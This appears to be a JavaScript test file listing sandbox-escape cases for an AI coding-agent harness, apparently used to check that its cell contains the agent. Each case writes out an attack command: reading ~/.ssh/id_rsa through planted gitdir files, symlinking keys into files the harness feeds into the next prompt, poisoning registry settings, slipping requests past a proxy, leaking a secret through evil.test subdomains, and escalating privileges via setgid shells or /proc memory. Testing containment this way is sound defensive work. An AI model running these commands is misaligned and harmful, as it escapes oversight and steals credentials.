// Second thoughts of an attacker: what Ralph itself does for the agent outside of the cell, or in its next attempt. `first` runs
// in an attempt before.
const deputy = (id, { first, sh = 'exit 1', outside }) => ({ id, class: 'deputy', first, sh, outside })
const make = (kind) => (id, sh, outside) => ({ id, class: kind, sh, outside })
const [net, sys, proc] = ['network', 'system-call', 'process'].map(make)
const py = (code) => `python3 -c "${code}"`
const call = (...args) =>
  py(
    `import ctypes;l=ctypes.CDLL(None,use_errno=True);b=ctypes.create_string_buffer(256);raise SystemExit(l.syscall(${args.join(',')})<0)`,
  )
const proxy = 'http://127.0.0.1:3128'
const raw = (text) => `${text} | timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'`
const linkTo = (path, name) => `rm -f "${name}"; ln -s "${path}" "${name}"; exit 1`
const follows = (name) => (look) => look.ralphReads(`project/${name}`)?.includes('secret') === true

export const deputyCases = [
  // A file that says where the repository is makes that folder writable in the next attempt.
  deputy('planted-gitdir', {
    first: 'mkdir sub; echo "gitdir: $OUTSIDE" >sub/.git',
    sh: 'cat "$OUTSIDE/secret.txt"',
  }),
  deputy('planted-gitdir-write', {
    first: 'mkdir sub; echo "gitdir: $OUTSIDE" >sub/.git',
    sh: 'echo x >"$OUTSIDE/planted"; exit 1',
    outside: ({ has }) => has('outside/planted'),
  }),
  deputy('planted-gitdir-of-home', {
    first: 'mkdir sub; echo "gitdir: $HOME/.ssh" >sub/.git',
    sh: 'cat ~/.ssh/id_rsa',
  }),
  deputy('planted-commondir-of-nested', {
    first: 'git init -q sub && rm -rf sub/.git/objects && echo "$OUTSIDE" >sub/.git/commondir',
    sh: 'cat "$OUTSIDE/secret.txt"',
  }),
  // What the index names is copied from other sprints, so that a commit does not delete it.
  deputy('index-names-other-journal', {
    first:
      'git update-index --add --cacheinfo "100644,$(git hash-object -w package.json),.claude/sprints/s2/journal/0001"',
    sh: 'grep "journal of another" .claude/sprints/s2/journal/0001',
  }),
  // The next run looks for registries.
  deputy('registry-of-next-run', {
    first: 'echo "registry=http://127.0.0.1:$ORIGIN_PORT/" >.npmrc',
    sh: `curl -s -m20 "http://127.0.0.1:$ORIGIN_PORT/" | grep origin || curl -s -m20 --noproxy "" --proxy ${proxy} "http://127.0.0.1:$ORIGIN_PORT/" | grep origin`,
  }),
  deputy('lockfile-of-next-run', {
    first: `echo '{"packages":{"a":{"resolved": "http://inside.test:'$ORIGIN_PORT'/a.tgz"}}}' >package-lock.json`,
    sh: `curl -s -m20 --noproxy "" --proxy ${proxy} "http://inside.test:$ORIGIN_PORT/" | grep origin`,
  }),
  // Files that Ralph reads after the attempt, and puts into the next prompt.
  deputy('learnings-link', {
    sh: linkTo('$HOME/.ssh/id_rsa', '$SPRINT/LEARNINGS.md'),
    outside: follows('.claude/sprints/s1/LEARNINGS.md'),
  }),
  deputy('progress-link', {
    sh: linkTo('$HOME/.ssh/id_rsa', '$SPRINT/PROGRESS.yaml'),
    outside: follows('.claude/sprints/s1/PROGRESS.yaml'),
  }),
  deputy('report-link', {
    sh: linkTo('$HOME/.ralph/backend/serve.json', '$ATTEMPT/told/report.json'),
    outside: follows('.claude/sprints/s1/attempts/2-1/told/report.json'),
  }),
  deputy('learnings-pipe', {
    sh: 'rm -f "$SPRINT/LEARNINGS.md"; mkfifo "$SPRINT/LEARNINGS.md"; exit 1',
    outside: ({ ralphReads }) => ralphReads('project/.claude/sprints/s1/LEARNINGS.md') !== undefined,
  }),
  deputy('learnings-endless', {
    sh: 'truncate -s 1T "$SPRINT/LEARNINGS.md"; exit 1',
    outside: ({ ralphReads }) => ralphReads('project/.claude/sprints/s1/LEARNINGS.md') !== undefined,
  }),
  deputy('temporary-folder-closed', { sh: 'mkdir -p /tmp/a/b; chmod 000 /tmp/a; exit 1' }),
  deputy('git-names-with-newline', {
    first: `touch ".git/a\ncommondir"`,
    sh: 'mkdir -p /tmp/g; echo /tmp/g >.git/commondir; exit 1',
    outside: ({ has }) => has('project/.git/commondir'),
  }),
  net(
    'proxy-second-request',
    `${raw(`printf 'GET http://allowed.test:%s/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://127.0.0.1:%s/secret HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' "$ORIGIN_PORT" "$ORIGIN_PORT"`)} | grep origin-secret`,
  ),
  net('proxy-zero-address', `curl -s -m20 --noproxy "" --proxy ${proxy} "http://0.0.0.0:$ORIGIN_PORT/" | grep origin`),
  net(
    'proxy-octal-address',
    `curl -s -m20 --noproxy "" --proxy ${proxy} "http://0177.0.0.1:$ORIGIN_PORT/" | grep origin`,
  ),
  net(
    'proxy-compatible-loopback',
    `curl -s -m20 -g --noproxy "" --proxy ${proxy} "http://[::127.0.0.1]:$ORIGIN_PORT/" | grep origin`,
  ),
  net(
    'proxy-upgrade',
    `${raw(`printf 'GET http://inside.test:%s/ HTTP/1.1\\r\\nHost: inside.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' "$ORIGIN_PORT"`)} | grep origin`,
  ),
  net(
    'names-as-a-channel',
    `curl -s -m20 https://c2VjcmV0.evil.test/ http://c2VjcmV0.evil.test/; exit 1`,
    ({ asked }) => asked.some((host) => host.endsWith('evil.test')),
  ),
  net(
    'proxy-url-user',
    `curl -s -m20 --noproxy "" --proxy ${proxy} "http://allowed.test@127.0.0.1:$ORIGIN_PORT/" | grep origin`,
  ),
  sys('set-group-id-shell', 'cp /bin/sh b8 && chmod g+s b8; exit 1', ({ setUserIds }) => setUserIds.length > 0),
  sys(
    'take-descriptor-of-first',
    py('import os,ctypes;l=ctypes.CDLL(None);p=os.pidfd_open(1);raise SystemExit(l.syscall(438,p,0,0)<0)'),
  ),
  sys('new-time', 'unshare -T true'),
  sys('clone-with-groups', 'unshare -C true'),
  sys('mount-attributes', call(442, -100, "b'.claude'", 0, 'b', 32)),
  proc('write-memory-of-first', py("open('/proc/1/mem','r+b').write(b'x')")),
  proc('follow-root-of-parent', 'cat "/proc/$PPID/root$OUTSIDE/secret.txt"'),
]
